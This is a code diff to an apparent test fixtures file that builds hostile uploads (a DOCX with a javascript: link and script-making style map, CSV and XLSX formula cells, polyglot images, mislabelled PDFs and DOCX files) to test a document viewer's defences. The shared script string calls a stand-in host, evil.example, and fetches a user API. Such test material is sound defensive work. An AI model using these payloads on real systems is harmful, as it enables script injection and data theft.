@@ -1,4 +1,5 @@
 import { gzipSync } from 'node:zlib';
+import { docxOf, paragraph, xlsxOf } from './office-files';
 
 /** A script that would show itself: in the page, to the user, and to another server. */
 const script = `window.ran = 1; top.ran = 1; alert('ran'); fetch('https://evil.example/ran'); fetch('/api/v1/user')`;
@@ -20,7 +21,8 @@ const pdf = pdfOf([
   '<< /Length 44 >>\nstream\nBT /F 18 Tf 20 40 Td (A title in a PDF) Tj ET\nendstream',
 ]);
 
-function pdfOf(objects: string[]): Buffer {
+/** A PDF of objects, which are numbered from 1. */
+export function pdfOf(objects: string[]): Buffer {
   let text = '%PDF-1.7\n';
   const offsets = objects.map((object, at) => {
     const offset = text.length;
@@ -33,6 +35,25 @@ function pdfOf(objects: string[]): Buffer {
   text += `trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF`;
   return Buffer.from(text, 'latin1');
 }
+
+const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
+const excel = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
+const escaped = html.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
+
+/** With links that run or lead out, a picture from elsewhere, and rules that make scripts of its text. */
+const docx = docxOf(
+  `${paragraph('Title', 'Heading1')}${paragraph(escaped)}${paragraph(script, 'Evil')}<w:p><w:hyperlink r:id="r1"><w:r><w:t>run</w:t></w:r></w:hyperlink><w:hyperlink r:id="r2"><w:r><w:t>leave</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="r3"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
+  {
+    links: [
+      ['hyperlink', `javascript:${script}`],
+      ['hyperlink', picture],
+      ['image', picture],
+    ],
+    more: {
+      'mammoth/style-map': "p[style-name='Evil'] => script\np => img[src='https://evil.example/map.png']",
+    },
+  },
+);
 
 /** Files that would do harm where they were shown as what they claim to be: name, claimed type, bytes. */
 export const hostileFiles: [name: string, type: string, content: Buffer | string][] = [
@@ -59,6 +80,9 @@ export const hostileFiles: [name: string, type: string, content: Buffer | string
   ['table.csv', 'text/csv', `Title,b\n"=HYPERLINK(""${picture}"")","<script>${script}</script>"\n`],
   ['code.js', 'text/javascript', script],
   ['paper.pdf', 'application/pdf', pdf],
+  ['letter.docx', word, docx],
+  ['not-a.docx', word, html],
+  ['book.xlsx', excel, xlsxOf({ Title: [[escaped, 1]], '=HYPERLINK(1)': [['x']] })],
   ['not-a.pdf', 'application/pdf', html],
   ['polyglot.gif', 'image/gif', gif],
   ['polyglot.png', 'image/png', png],
